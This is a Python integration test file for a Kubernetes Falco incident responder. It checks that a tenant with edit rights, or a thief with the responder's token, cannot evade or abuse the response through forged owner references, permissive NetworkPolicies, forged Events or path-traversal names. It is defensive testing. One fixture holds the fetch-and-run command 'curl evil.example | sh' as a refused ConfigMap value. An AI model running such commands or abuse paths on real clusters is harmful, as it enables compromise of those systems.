"""The attacker inside the cluster cannot evade, misdirect or abuse the response (issue 16).

Every path is tried against the real functions on the emulators, with the admission rails
`falco-responder policy admission` generates installed. Two attackers, in two sections,
each a class with its own pipeline (a class-scoped fixture, so one runs at a time), and
a third section for a Secret Manager that is slow or down:

- `TestTenantWithEdit`: a tenant holds `edit` in its own namespace
  (tests/integration/tenant.py) and a compromised pod there; others hold the ingest
  token, or replay messages onto the alerts topic. Each tries one way around the
  response: every attempt fails, and the response still happens where it should.
- `TestThiefWithTheRespondersToken`: the cluster's admin applied the rails generated for
  the approved policy (APPROVED_POLICY). The thief holds the responder's token and has
  edited the responder's policy to remove every rail of its own (STRIPPED_POLICY: no
  protected namespace, DaemonSet pods fair game, no alert age): neither the responder's
  code nor its policy stands in the way. Each path of issue 16's list is tried with the
  token, straight at the API server; every attempt is refused, and the responder's
  legitimate actions still pass.
"""

import hashlib
import json
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from ingest import auth
from ingest.auth import STALE_TOKEN_LIMIT_SECONDS, TOKEN_MAX_AGE_SECONDS, SecretTokens
from ingest.service import Settings, handle
from localdev.k8s_api_emulator.kinds import EMULATOR_NODE
from localdev.local_stack.stack import RESPONDER_TOKEN, RESPONDER_USER, LocalStack
from localdev.local_stack.wait import wait_until
from responder import admission
from responder.actions import BREAKER_EVENT_REASON
from responder.actions.event import COMPONENT, event_name
from responder.actions.evidence import LOG_READ_FACTOR
from responder.actions.isolate import ISOLATION_LABEL, POLICY_PREFIX
from responder.circuit_breaker import CONFIGMAP, DATA_KEY
from responder.outcome import ISOLATION_LEAKS
from responder.policy import BUILT_IN_PROTECTED_NAMESPACES, parse_policy
from shared import config
from shared.k8s_names import dns1123_subdomain_error
from tests.conftest import as_bytes, kube_api_client, status_of
from tests.integration.conftest import (
    old_pod,
    outcomes,
    policy_rule,
    rule_alert,
    stack_with_policy,
)
from tests.integration.tenant import Tenant, edit_tenant
from tests.secret_manager import Background, Clock, SecretManagerStandIn


def _respond(stack: LocalStack, alert: dict) -> dict:
    """Publish the alert onto the pipeline's topic; its one outcome record."""
    stack.publish(as_bytes(alert), alert_id=alert["uuid"])
    return outcomes(stack, alert["uuid"], 1)[0]


def _responder_requests(stack: LocalStack, text: str) -> list:
    return [r for r in stack.kube.requests if r.user == RESPONDER_USER and text in r.path]


# ============================================================================================
# The tenant with `edit` in its namespace
# ============================================================================================

CLUSTER = "prod"
BAD_POD_NAMES = [".", "..", "x/", "a/../b", "%2F..%2Fsecrets", "a" * 254, "Web"]
CAPTURE = {"action": "capture_evidence", "log_lines": 100_000, "max_bytes": 4096}
TENANT_POLICY = {
    "cluster_name": CLUSTER,
    "safety": {"circuit_breaker": {"max_actions": 100_000}},
    "rules": [
        policy_rule("delete", {"action": "delete_pod", "grace_period_seconds": 3}),
        policy_rule("evict", {"action": "evict_pod", "grace_period_seconds": 5}),
        policy_rule("isolate", {"action": "isolate_pod"}),
        policy_rule(
            "isolate-loosely", {"action": "isolate_pod", "allow_namespaces": ["forensics"]}
        ),
        policy_rule("scale", {"action": "scale_to_zero"}),
        policy_rule("event-then-delete", {"action": "record_event"}, {"action": "delete_pod"}),
        policy_rule("capture-then-delete", CAPTURE, {"action": "delete_pod"}),
    ],
}


@pytest.fixture(scope="class")
def adversary(stack: LocalStack) -> Iterator[LocalStack]:
    """The pipeline, its cluster named, its rails generated from TENANT_POLICY and installed."""
    with stack_with_policy(stack, TENANT_POLICY, "falco-responder-adversary") as local:
        yield local


@pytest.fixture
def tenant(adversary: LocalStack, unique: str) -> Tenant:
    return edit_tenant(adversary.kube, f"tenant-{unique}")


def _alert(tenant: Tenant, pod: dict, rule: str, **fields) -> dict:
    """Falco's alert about the tenant's pod, as the deployed values send it: the cluster
    and the pod's UID in its output fields."""
    meta = pod["metadata"]
    alert = rule_alert(meta["name"], rule, namespace=tenant.namespace, pod_uid=meta["uid"])
    alert["output_fields"]["cluster"] = CLUSTER
    alert["output_fields"].update(fields)
    return alert


class TestTenantWithEdit:
    """A tenant with `edit` in its own namespace, and whoever holds the ingest token."""

    # A huge grace period, and SIGTERM ignored.

    @pytest.mark.parametrize(("rule", "policy_grace"), [("delete", 3), ("evict", 5)])
    def test_a_pod_deleting_itself_with_a_huge_grace_period_is_cut_short(
        self, adversary, tenant, unique, rule, policy_grace
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        name = pod["metadata"]["name"]
        with tenant.core() as core:
            core.delete_namespaced_pod(name, tenant.namespace, grace_period_seconds=999_999)
        record = _respond(adversary, _alert(tenant, pod, rule))
        [action] = record["actions"]
        assert (action["outcome"], action["reason"]) == (
            "done",
            f"grace_period_shortened from 999999s to {policy_grace}s",
        )
        left = adversary.kube.get_pod(tenant.namespace, name)
        assert left["metadata"]["deletionGracePeriodSeconds"] == policy_grace
        wait_until(
            lambda: adversary.kube.get_pod(tenant.namespace, name) is None,
            policy_grace + 10,
            "the pod to be gone within the policy's grace period",
        )

    # A workload shaped as a rail might spare it.

    def test_a_pod_of_a_daemonset_the_tenant_made_is_still_deleted(self, adversary, tenant, unique):
        name = f"agent-{unique}"
        template = {
            "metadata": {"labels": {"app": name}},
            "spec": {"containers": [{"name": "agent", "image": "busybox"}]},
        }
        body = {
            "metadata": {"name": name},
            "spec": {"selector": {"matchLabels": {"app": name}}, "template": template},
        }
        with tenant.api() as api_client:
            client.AppsV1Api(api_client).create_namespaced_daemon_set(tenant.namespace, body)
        daemonset = adversary.kube.get_object("daemonsets", name, namespace=tenant.namespace)
        # The pod its controller would start, owned by it.
        pod = old_pod(adversary, tenant.namespace, f"{name}-x", owner=daemonset)
        record = _respond(adversary, _alert(tenant, pod, "delete"))
        assert [a["outcome"] for a in record["actions"]] == ["done"]
        assert adversary.kube.pod_deleted(tenant.namespace, f"{name}-x")

    # Its pod's owner references pointed at a decoy.

    def test_scale_to_zero_is_not_turned_on_a_decoy_by_the_pods_owner_references(
        self, adversary, tenant, unique
    ):
        kube, namespace = adversary.kube, tenant.namespace
        kube.create_deployment(namespace, f"web-{unique}", 2, {"app": f"web-{unique}"})
        kube.create_deployment(namespace, f"decoy-{unique}", 1, {"app": f"decoy-{unique}"})
        web = kube.get_object("deployments", f"web-{unique}", namespace=namespace)
        decoy = kube.get_object("deployments", f"decoy-{unique}", namespace=namespace)
        [replica_set] = kube.owned_by(web)
        pod = old_pod(adversary, namespace, f"web-{unique}-0", owner=replica_set)
        forged = {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "name": decoy["metadata"]["name"],
            "uid": decoy["metadata"]["uid"],
            "controller": True,
        }
        # Replaced, not added to: the API server refuses a second controller reference.
        replace = [{"op": "replace", "path": "/metadata/ownerReferences", "value": [forged]}]
        with tenant.core() as core:
            core.patch_namespaced_pod(pod["metadata"]["name"], namespace, replace)
        record = _respond(adversary, _alert(tenant, pod, "scale"))
        [action] = record["actions"]
        assert action["outcome"] == "failed"
        assert "which a Deployment never is" in action["reason"]
        assert (record["decision"], record["error_reason"]) == ("dead_letter", "action_failed")
        replicas = [
            kube.get_object("deployments", d["metadata"]["name"], namespace=namespace)["spec"][
                "replicas"
            ]
            for d in (web, decoy)
        ]
        assert replicas == [2, 1]

    # The pod's own opt-out label.

    def test_a_pod_labelling_itself_opted_out_is_still_acted_on(self, adversary, tenant, unique):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        name = pod["metadata"]["name"]
        opt_out = {"metadata": {"labels": {"falco-responder/ignore": "true"}}}
        with tenant.core() as core:
            core.patch_namespaced_pod(name, tenant.namespace, opt_out)
            # ...and its namespace cannot be labelled with `edit`
            with pytest.raises(ApiException) as refused:
                core.patch_namespace(tenant.namespace, opt_out)
        assert refused.value.status == 403
        record = _respond(adversary, _alert(tenant, pod, "delete"))
        assert (record["decision"], record["outcome"]) == ("act", "acted")
        assert adversary.kube.pod_deleted(tenant.namespace, name)

    # An alert from another cluster's Falco, through the same ingest.

    @pytest.mark.parametrize("cluster", ["staging", None])
    def test_an_alert_naming_another_cluster_or_none_is_never_acted_on(
        self, adversary, tenant, unique, cluster
    ):
        pod = old_pod(adversary, tenant.namespace, f"db-{unique}")
        alert = _alert(tenant, pod, "delete", cluster=cluster)
        answer = adversary.post(alert)
        assert answer.status_code == 202, answer.text
        record = adversary.wait_for_outcome(alert["uuid"])
        assert (record["decision"], record["outcome"]) == ("refuse", "skipped")
        assert record["reason"].endswith(
            f"this responder serves only '{CLUSTER}' (cluster_name): not acted on"
        )
        assert adversary.kube.pod_running(tenant.namespace, pod["metadata"]["name"])
        assert not _responder_requests(adversary, f"/namespaces/{tenant.namespace}/")

    # A NetworkPolicy made first under the name isolate_pod uses.

    def test_a_permissive_network_policy_under_our_name_is_made_isolating(
        self, adversary, tenant, unique
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        allow_all = client.V1NetworkPolicy(
            metadata=client.V1ObjectMeta(name=POLICY_PREFIX),
            spec=client.V1NetworkPolicySpec(
                pod_selector=client.V1LabelSelector(),
                policy_types=["Ingress", "Egress"],
                ingress=[client.V1NetworkPolicyIngressRule()],
                egress=[client.V1NetworkPolicyEgressRule()],
            ),
        )
        with tenant.networking() as networking:
            networking.create_namespaced_network_policy(tenant.namespace, allow_all)
        record = _respond(adversary, _alert(tenant, pod, "isolate"))
        [action] = record["actions"]
        assert action["outcome"] == "done"
        assert action["reason"] == (
            f"isolated by network policy {POLICY_PREFIX} (it existed with another spec: replaced)"
        )
        stored = adversary.kube.get_object("networkpolicies", POLICY_PREFIX, tenant.namespace)
        assert stored["spec"]["podSelector"] == {"matchLabels": {ISOLATION_LABEL: "true"}}
        assert sorted(stored["spec"]["policyTypes"]) == ["Egress", "Ingress"]
        assert not stored["spec"].get("ingress") and not stored["spec"].get("egress")
        labels = adversary.kube.get_pod(tenant.namespace, pod["metadata"]["name"])["metadata"]
        assert labels["labels"][ISOLATION_LABEL] == "true"

    # A NetworkPolicy of another name letting the pod out: policies add up.

    def test_a_network_policy_of_the_tenants_letting_the_pod_out_is_named(
        self, adversary, tenant, unique
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        let_out = client.V1NetworkPolicy(
            metadata=client.V1ObjectMeta(name="let-me-out"),
            spec=client.V1NetworkPolicySpec(
                pod_selector=client.V1LabelSelector(),
                policy_types=["Egress"],
                egress=[client.V1NetworkPolicyEgressRule()],
            ),
        )
        with tenant.networking() as networking:
            networking.create_namespaced_network_policy(tenant.namespace, let_out)
        alert = _alert(tenant, pod, "isolate")
        record = _respond(adversary, alert)
        [action] = record["actions"]
        assert (action["outcome"], action["reason"]) == (
            "done",
            f"isolated by network policy {POLICY_PREFIX}; not cut off: NetworkPolicies add "
            "up, and let-me-out (egress) also selects the pod and allows traffic",
        )
        lines = [json.loads(x) for x in adversary.responder.log_text().splitlines() if x[:1] == "{"]
        leaks = [x for x in lines if x.get("event") == ISOLATION_LEAKS]
        assert [x["policies"] for x in leaks if x["alert_id"] == alert["uuid"]] == [["let-me-out"]]

    # The isolation label put on the pod by its owner, with no policy behind it.

    @pytest.mark.parametrize("forged", ["true", "0123456789"])
    def test_an_isolation_label_the_tenant_set_is_no_isolation(
        self, adversary, tenant, unique, forged
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        with tenant.core() as core:
            core.patch_namespaced_pod(
                pod["metadata"]["name"],
                tenant.namespace,
                {"metadata": {"labels": {ISOLATION_LABEL: forged}}},
            )
        record = _respond(adversary, _alert(tenant, pod, "isolate-loosely"))
        [action] = record["actions"]
        assert action["outcome"] == "done"
        assert "isolation is never loosened" in action["reason"]
        # Tightened to deny-all, the one isolation the label may move to: made real.
        labels = adversary.kube.get_pod(tenant.namespace, pod["metadata"]["name"])["metadata"]
        assert labels["labels"][ISOLATION_LABEL] == "true"
        stored = adversary.kube.get_object("networkpolicies", POLICY_PREFIX, tenant.namespace)
        assert stored["spec"]["podSelector"] == {"matchLabels": {ISOLATION_LABEL: "true"}}
        assert not stored["spec"].get("ingress") and not stored["spec"].get("egress")

    # Very long log lines before a capture_evidence.

    def test_very_long_log_lines_cannot_stop_the_capture_or_the_delete_after_it(
        self, adversary, tenant, unique
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        name = pod["metadata"]["name"]
        line = "y" * 20_000 + "\n"
        container = pod["spec"]["containers"][0]["name"]
        adversary.kube.write_logs(tenant.namespace, name, container, line * 200)  # 4 MB
        alert = _alert(tenant, pod, "capture-then-delete")
        record = _respond(adversary, alert)
        assert [a["outcome"] for a in record["actions"]] == ["done", "done"]
        assert adversary.kube.pod_deleted(tenant.namespace, name)
        [read] = _responder_requests(adversary, f"/pods/{name}/log")
        assert read.query["limitBytes"] == [str(CAPTURE["max_bytes"] * LOG_READ_FACTOR)]
        # stored where `falco-responder evidence` finds it: the pod as read, the alert's id
        objects = adversary.evidence(alert["uuid"])
        log = objects[f"logs/{container}.log"]
        assert 0 < len(log) <= CAPTURE["max_bytes"] and set(log) <= set(line.encode())
        manifest = json.loads(objects["manifest.json"])
        assert (manifest["namespace"], manifest["pod"]) == (tenant.namespace, name)
        [note] = manifest["not_captured"]
        assert "(limitBytes)" in note["reason"]

    # A bare pod with a name as long as Kubernetes allows, and an Event recorded first.

    def test_an_event_about_a_pod_with_a_240_character_name_is_recorded(
        self, adversary, tenant, unique
    ):
        name = f"x{unique}-" + "a" * (239 - len(unique) - 1)
        assert len(name) == 240
        with tenant.core() as core:
            created = core.create_namespaced_pod(
                tenant.namespace,
                client.V1Pod(
                    metadata=client.V1ObjectMeta(name=name),
                    spec=client.V1PodSpec(
                        node_name=EMULATOR_NODE,
                        containers=[client.V1Container(name="app", image="busybox")],
                    ),
                ),
            )
        pod = client.ApiClient().sanitize_for_serialization(created)
        record = _respond(adversary, _alert(tenant, pod, "event-then-delete"))
        event, delete = record["actions"]
        assert (event["outcome"], delete["outcome"]) == ("done", "done")
        event_name = event["target"].rpartition("/")[2]
        assert len(event_name) <= 253 and dns1123_subdomain_error(event_name) is None
        assert adversary.kube.get_object("events", event_name, tenant.namespace) is not None
        wait_until(
            lambda: adversary.kube.get_pod(tenant.namespace, name) is None, 10, "the pod to go"
        )

    # Names that are not Kubernetes names, in an alert published or replayed.

    @pytest.mark.parametrize("bad", BAD_POD_NAMES, ids=lambda n: n[:12])
    def test_a_pod_name_kubernetes_would_refuse_never_reaches_the_api_server(
        self, adversary, tenant, unique, bad
    ):
        victim = old_pod(adversary, tenant.namespace, f"web-{unique}")
        alert = _alert(tenant, victim, "delete", **{"k8s.pod.name": bad})
        # through ingest: refused at the door, naming the field
        answer = adversary.post(alert)
        assert answer.status_code == 400
        assert "field 'output_fields.k8s.pod.name'" in answer.json()["error"]
        # replayed onto the topic: dead-lettered once as invalid, the cluster never called
        record = _respond(adversary, alert)
        assert (record["decision"], record["error_reason"]) == ("dead_letter", "invalid_alert")
        assert record["reason"].startswith("field 'output_fields.k8s.pod.name': ")
        [dead] = wait_until(
            lambda: adversary.dead_letters.where(alert_id=alert["uuid"]), 60, "the dead letter"
        )
        assert dead.attributes["error_reason"] == "invalid_alert"
        assert not _responder_requests(adversary, f"/namespaces/{tenant.namespace}/")
        assert adversary.kube.pod_running(tenant.namespace, victim["metadata"]["name"])

    @pytest.mark.parametrize("bad", ["..", "Tenant", "a.b", "x/"])
    def test_a_namespace_that_is_no_dns_label_never_reaches_the_api_server(
        self, adversary, unique, bad
    ):
        alert = rule_alert(f"web-{unique}", "delete", namespace=bad)
        alert["output_fields"]["cluster"] = CLUSTER
        record = _respond(adversary, alert)
        assert (record["decision"], record["error_reason"]) == ("dead_letter", "invalid_alert")
        assert record["reason"].startswith("field 'output_fields.k8s.ns.name': ")
        assert not _responder_requests(adversary, f"web-{unique}")

    # Evidence paths, ids and rule names taken from the alert.

    @pytest.mark.parametrize("uuid", ["../../x", "x/..", "a/b", "*"])
    def test_an_alert_id_that_would_leave_the_evidence_prefix_is_invalid(
        self, adversary, tenant, unique, uuid
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        alert = _alert(tenant, pod, "capture-then-delete")
        alert["uuid"] = uuid
        tag = hashlib.sha256(f"{unique}{uuid}".encode()).hexdigest()[:16]
        adversary.publish(as_bytes(alert), alert_id=tag)
        [record] = outcomes(adversary, tag, 1)
        assert (record["decision"], record["error_reason"]) == ("dead_letter", "invalid_alert")
        assert record["reason"].startswith("field 'uuid': ")
        assert adversary.kube.pod_running(tenant.namespace, pod["metadata"]["name"])

    def test_a_rule_name_too_long_to_log_is_invalid_and_its_record_stays_small(
        self, adversary, tenant, unique
    ):
        pod = old_pod(adversary, tenant.namespace, f"web-{unique}")
        alert = _alert(tenant, pod, "delete")
        alert["rule"] = "r" * 300_000
        adversary.publish(as_bytes(alert), alert_id=alert["uuid"])
        [record] = outcomes(adversary, alert["uuid"], 1)
        assert (record["decision"], record["error_reason"]) == ("dead_letter", "invalid_alert")
        assert record["reason"].startswith("field 'rule': ")
        assert len(json.dumps(record)) < 16 * 1024  # Cloud Logging takes 256 KB an entry
        assert adversary.kube.pod_running(tenant.namespace, pod["metadata"]["name"])


# ============================================================================================
# The thief with the responder's token, its policy stripped of every rail
# ============================================================================================

ADMIN = "adversary-rails-admin"
BREAKER_NAMESPACE = "falco-responder"
SUSPECT = {"security/suspect": "true"}
THIEF_RULES = [
    policy_rule("delete", {"action": "delete_pod", "grace_period_seconds": 1}),
    policy_rule("label", {"action": "label_pod", "add": SUSPECT}),
    policy_rule("isolate", {"action": "isolate_pod"}),
    policy_rule("cordon", {"action": "cordon_node"}),
    policy_rule("scale", {"action": "scale_to_zero"}),
]
APPROVED_POLICY = {
    "safety": {"ignore_daemonset_pods": True, "circuit_breaker": {"max_actions": 100_000}},
    "rules": THIEF_RULES,
}
STRIPPED_POLICY = {
    "dry_run": False,
    "safety": {
        "unprotect": list(BUILT_IN_PROTECTED_NAMESPACES),
        "ignore_daemonset_pods": False,
        "max_alert_age": None,
        # Kept (a huge count) so the RBAC, which the admin granted, is the same.
        "circuit_breaker": {"max_actions": 100_000},
    },
    "rules": THIEF_RULES,
}
DENIED = "denied request: "


@dataclass
class Thief:
    core: client.CoreV1Api
    apps: client.AppsV1Api
    networking: client.NetworkingV1Api


@pytest.fixture(scope="class")
def guarded(stack: LocalStack) -> Iterator[LocalStack]:
    """A responder running STRIPPED_POLICY, on a cluster holding APPROVED_POLICY's rails."""
    with stack_with_policy(stack, STRIPPED_POLICY, "falco-responder-adversary-rails") as local:
        local.kube.add_token(ADMIN, verbs="*")
        [policy, _] = admission.manifests(
            parse_policy(APPROVED_POLICY, "approved"), [admission_user()]
        )
        with kube_api_client(local.kube, ADMIN) as api_client:
            registration = client.AdmissionregistrationV1Api(api_client)
            installed = registration.read_validating_admission_policy(admission.NAME)
            installed.spec = policy["spec"]
            registration.replace_validating_admission_policy(admission.NAME, installed)
        for namespace in ("gke-managed-foo", BREAKER_NAMESPACE):
            if local.kube.get_object("namespaces", namespace) is None:
                local.kube.create_namespace(namespace)
        local.kube.create_node("node-victim")
        yield local


def admission_user() -> str:
    return admission.service_account_user(admission.DEFAULT_SERVICE_ACCOUNT)


@pytest.fixture
def thief(guarded: LocalStack) -> Iterator[Thief]:
    with kube_api_client(guarded.kube, RESPONDER_TOKEN) as api_client:
        yield Thief(
            client.CoreV1Api(api_client),
            client.AppsV1Api(api_client),
            client.NetworkingV1Api(api_client),
        )


def refused(attempt: Callable[[], object]) -> str:
    """The message of the API server's 403 to the attempt."""
    with pytest.raises(ApiException) as caught:
        attempt()
    assert caught.value.status == 403, caught.value.body
    message = status_of(caught.value)["message"]
    assert "ValidatingAdmissionPolicy 'falco-responder-rails'" in message
    return message.split(DENIED, 1)[1]


class TestThiefWithTheRespondersToken:
    """The responder's token, on a cluster holding the approved policy's rails."""

    # The token, straight at the API server.

    def test_a_noexecute_taint_on_a_node_is_refused(self, guarded, thief):
        taint = {"key": "evict-all", "effect": "NoExecute"}
        patch = {"spec": {"unschedulable": True, "taints": [taint]}}
        assert refused(lambda: thief.core.patch_node("node-victim", patch)) == (
            admission.CORDON_MESSAGE
        )
        assert not guarded.kube.get_object("nodes", "node-victim")["spec"].get("taints")

    def test_an_owner_reference_on_a_node_is_refused(self, guarded, thief, unique):
        owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": unique, "uid": unique}
        patch = {"metadata": {"ownerReferences": [owner]}, "spec": {"unschedulable": True}}
        assert refused(lambda: thief.core.patch_node("node-victim", patch)) == (
            admission.CORDON_MESSAGE
        )
        assert not guarded.kube.get_object("nodes", "node-victim")["metadata"].get(
            "ownerReferences"
        )

    def test_scaling_a_statefulset_to_zero_while_deleting_its_volumes_is_refused(
        self, guarded, thief, unique
    ):
        name = f"db-{unique}"
        guarded.kube.create_statefulset("default", name, 2, {"app": name})
        retention = {"whenDeleted": "Retain", "whenScaled": "Delete"}
        patch = {"spec": {"replicas": 0, "persistentVolumeClaimRetentionPolicy": retention}}
        assert refused(
            lambda: thief.apps.patch_namespaced_stateful_set(name, "default", patch)
        ) == (admission.SCALE_MESSAGE)
        assert guarded.kube.get_object("statefulsets", name, "default")["spec"]["replicas"] == 2

    def test_relabelling_a_pod_into_another_services_selector_is_refused(
        self, guarded, thief, unique
    ):
        name = f"web-{unique}"
        old_pod(guarded, "default", name, labels={"app": "web"})
        patch = {"metadata": {"labels": {"app": "payments"}}}
        assert refused(lambda: thief.core.patch_namespaced_pod(name, "default", patch)) == (
            admission.POD_UPDATE_MESSAGE
        )
        # Nor the policy's own label with another value.
        patch = {"metadata": {"labels": {"security/suspect": "false"}}}
        assert refused(lambda: thief.core.patch_namespaced_pod(name, "default", patch)) == (
            admission.POD_UPDATE_MESSAGE
        )
        assert guarded.kube.get_pod("default", name)["metadata"]["labels"] == {"app": "web"}

    @pytest.mark.parametrize(
        "spec",
        [
            # isolate_pod's name, selecting every pod, allowing everything in
            {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}]},
            # its name and selector, with a rule that lets all traffic in
            {
                "podSelector": {"matchLabels": {ISOLATION_LABEL: "true"}},
                "policyTypes": ["Ingress", "Egress"],
                "ingress": [{"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
            },
            # egress left open
            {"podSelector": {"matchLabels": {ISOLATION_LABEL: "true"}}, "policyTypes": ["Ingress"]},
        ],
    )
    def test_a_permissive_network_policy_is_refused(self, guarded, thief, spec, unique):
        namespace = f"tenant-{unique}"
        guarded.kube.create_namespace(namespace)
        body = {"metadata": {"name": "falco-responder-isolate"}, "spec": spec}
        assert refused(
            lambda: thief.networking.create_namespaced_network_policy(namespace, body)
        ) == (admission.ISOLATION_MESSAGE)
        assert guarded.kube.list_objects("networkpolicies", namespace) == []

    def test_an_odd_breaker_configmap_is_refused(self, guarded, thief):
        odd = {
            "metadata": {"name": CONFIGMAP},
            "data": {DATA_KEY: "{}", "payload": "curl evil.example | sh"},
        }
        message = refused(lambda: thief.core.create_namespaced_config_map(BREAKER_NAMESPACE, odd))
        assert message == admission.BREAKER_MESSAGE

    @pytest.mark.parametrize(
        "forged",
        [
            {"reason": "Killing", "source": {"component": "kubelet"}},  # as if the kubelet
            {"involvedObject": {"apiVersion": "v1", "kind": "Node", "name": "node-victim"}},
            {"reason": "FalcoAlert"},  # a reason none of the approved policy's actions gives
        ],
    )
    def test_a_forged_event_is_refused(self, guarded, thief, forged, unique):
        # What the breaker's fallback records (the approved policy's only Event)...
        pod = f"web-{unique}"
        honest = {
            "metadata": {"name": event_name(pod, unique, BREAKER_EVENT_REASON)},
            "involvedObject": {
                "apiVersion": "v1",
                "kind": "Pod",
                "name": pod,
                "namespace": "default",
            },
            "reason": BREAKER_EVENT_REASON,
            "message": "held back",
            "source": {"component": COMPONENT},
            "reportingComponent": COMPONENT,
            "reportingInstance": COMPONENT,
        }
        # ...forged: refused, and not stored.
        event = {**honest, **forged}
        message = refused(lambda: thief.core.create_namespaced_event("default", event))
        assert message == admission.EVENT_MESSAGE
        name = honest["metadata"]["name"]
        assert guarded.kube.get_object("events", name, "default") is None
        # Unforged, it passes: the rail refuses the forgery, not the action.
        thief.core.create_namespaced_event("default", honest)
        assert guarded.kube.get_object("events", name, "default") is not None

    def test_deleting_a_pod_in_a_gke_managed_namespace_is_refused(self, guarded, thief, unique):
        name = f"agent-{unique}"
        old_pod(guarded, "gke-managed-foo", name)
        message = refused(lambda: thief.core.delete_namespaced_pod(name, "gke-managed-foo"))
        assert message == (
            "falco-responder may not change anything in the protected namespace gke-managed-foo"
        )
        assert guarded.kube.pod_running("gke-managed-foo", name)

    def test_deleting_a_daemonset_pod_is_refused(self, guarded, thief, unique):
        name = f"agent-{unique}"
        daemonset = guarded.kube.create_daemonset("default", name, {"app": name})
        old_pod(guarded, "default", f"{name}-x", owner=daemonset)
        message = refused(lambda: thief.core.delete_namespaced_pod(f"{name}-x", "default"))
        assert message == admission.DAEMONSET_POD_MESSAGE
        assert guarded.kube.pod_running("default", f"{name}-x")

    # The responder running the stripped policy.

    def test_the_legitimate_actions_still_pass(self, guarded, unique):
        name = f"web-{unique}"
        guarded.kube.create_deployment("default", name, 2, {"app": name})
        [replica_set] = guarded.kube.owned_by(
            guarded.kube.get_object("deployments", name, namespace="default")
        )
        old_pod(guarded, "default", name, owner=replica_set, node_name="node-victim")
        old_pod(guarded, "default", f"{name}-bare")
        for rule, pod in [
            ("label", name),
            ("isolate", name),
            ("cordon", name),
            ("scale", name),
            ("delete", f"{name}-bare"),
        ]:
            record = _respond(guarded, rule_alert(pod, rule))
            assert [a["outcome"] for a in record["actions"]] == ["done"], (rule, record)
        labels = guarded.kube.get_pod("default", name)["metadata"]["labels"]
        assert (labels["security/suspect"], labels[ISOLATION_LABEL]) == ("true", "true")
        assert guarded.kube.get_object("nodes", "node-victim")["spec"]["unschedulable"] is True
        assert guarded.kube.get_object("deployments", name, "default")["spec"]["replicas"] == 0
        assert guarded.kube.pod_deleted("default", f"{name}-bare")

    @pytest.mark.parametrize("namespace", ["gke-managed-foo", "default"])
    def test_a_responder_without_its_own_rails_is_still_held_by_the_clusters(
        self, guarded, unique, namespace
    ):
        """STRIPPED_POLICY lets the responder delete a DaemonSet's pod and a pod in gke-managed-foo;
        the cluster refuses both (403: retried, then dead-lettered; never done)."""
        name = f"agent-{unique}"
        daemonset = guarded.kube.create_daemonset(namespace, name, {"app": name})
        pod = f"{name}-x"
        old_pod(guarded, namespace, pod, owner=daemonset)
        guarded.publish(as_bytes(rule_alert(pod, "delete", namespace=namespace)))
        path = f"/api/v1/namespaces/{namespace}/pods/{pod}"
        wait_until(
            lambda: [r for r in guarded.kube.requests if r.method == "DELETE" and r.path == path],
            60,
            f"the responder's DELETE of {namespace}/{pod}",
        )
        deletes = [r for r in guarded.kube.requests if r.method == "DELETE" and r.path == path]
        assert {r.status for r in deletes} == {403}
        assert guarded.kube.pod_running(namespace, pod)


# ============================================================================================
# Secret Manager slow or down (an outage, or one an attacker provokes)
# ============================================================================================

SECRET = "projects/p/secrets/ingest-token"


class TestSecretManagerSlowOrDown:
    """Falcosidekick's webhook sends each alert once: a request that queues behind a secret
    read is an alert lost. Secret Manager has no emulator, so ingest's own request handling
    (ingest.service.handle) meets the stand-in of tests/secret_manager.py, hung or down."""

    SETTINGS = Settings(topic="falco-alerts", max_body_bytes=1000, max_alerts=2)

    @pytest.fixture
    def ingest_tokens(self, monkeypatch) -> Iterator[tuple[SecretManagerStandIn, Clock]]:
        """Ingest reading its token from the stand-in's `latest`, read once already."""
        store, clock, background = SecretManagerStandIn(), Clock(), Background()
        store.add_version(SECRET, b"the-token")
        tokens = SecretTokens(
            f"{SECRET}/versions/latest",
            read=store.access_secret_version,
            clock=clock,
            spawn=background,
        )
        monkeypatch.delenv(config.INGEST_TOKEN, raising=False)
        monkeypatch.setenv(config.INGEST_TOKEN_SECRET, f"{SECRET}/versions/latest")
        monkeypatch.setattr(auth, "secret_tokens", lambda name: tokens)
        tokens.accepted()
        yield store, clock
        store.gate.set()  # let a hung re-read end
        background.settle()

    def _statuses(self, count: int) -> list[int]:
        # text/csv: 415 means the token passed; the body is never read.
        def status(_: int) -> int:
            return handle("POST", "Bearer the-token", "text/csv", bytes, self.SETTINGS).status

        with ThreadPoolExecutor(max_workers=16) as pool:
            return list(pool.map(status, range(count)))

    def test_no_request_waits_behind_a_hung_secret_manager(self, ingest_tokens):
        store, clock = ingest_tokens
        store.gate.clear()  # every read from now on hangs (10 s, Secret Manager's timeout)
        clock.now += TOKEN_MAX_AGE_SECONDS  # the tokens are due for a re-read
        started = time.monotonic()
        assert self._statuses(64) == [415] * 64  # answered with the tokens held
        assert time.monotonic() - started < 2
        assert store.reads.count(f"{SECRET}/versions/latest") == 2  # the first, one re-read

    def test_secret_manager_down_serves_the_last_tokens_for_the_grace_then_503(self, ingest_tokens):
        store, clock = ingest_tokens
        store.down = True
        clock.now += TOKEN_MAX_AGE_SECONDS
        assert self._statuses(16) == [415] * 16
        clock.now += STALE_TOKEN_LIMIT_SECONDS
        started = time.monotonic()
        assert self._statuses(16) == [503] * 16  # at once: no request waits on a read
        assert time.monotonic() - started < 2
